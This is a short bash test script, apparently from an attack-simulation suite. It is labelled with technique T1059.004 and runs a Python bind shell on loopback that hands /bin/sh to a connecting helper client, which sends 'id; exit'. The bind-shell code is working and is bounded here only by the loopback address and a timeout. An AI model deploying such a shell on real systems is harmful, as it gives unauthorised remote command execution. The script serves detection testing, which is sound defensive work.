#!/bin/bash
# A bind shell on loopback: Python listens and hands each connection to /bin/sh as its input
# and output; the "attacker" (support) connects and sends commands. (T1059.004)
. "$(dirname "$0")/../lib.sh"
need python3
support python3 "$(dirname "$0")/../helpers/client.py" "$PORT" "id; exit"
python3 -c "
import socket, subprocess
with socket.socket() as s:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(('127.0.0.1', $PORT)); s.listen(1); s.settimeout(15)
    conn, _ = s.accept()
    subprocess.run(['/bin/sh', '-i'], stdin=conn, stdout=conn, stderr=conn, timeout=15)
" || true
wait "${SUPPORT_PIDS[0]}" || true
